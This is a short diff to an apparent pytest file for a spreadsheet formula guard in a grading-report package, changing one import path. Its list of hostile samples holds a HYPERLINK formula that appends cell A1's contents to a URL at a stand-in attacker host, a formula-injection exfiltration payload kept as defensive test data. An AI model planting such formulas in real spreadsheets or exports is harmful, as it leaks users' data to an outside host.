@@ -5,7 +5,7 @@ from __future__ import annotations
 import pandas as pd
 import pytest
 
-from grading.formula_guard import as_text, text_only
+from grading.report.formula_guard import as_text, text_only
 
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?"&A1,"open")',
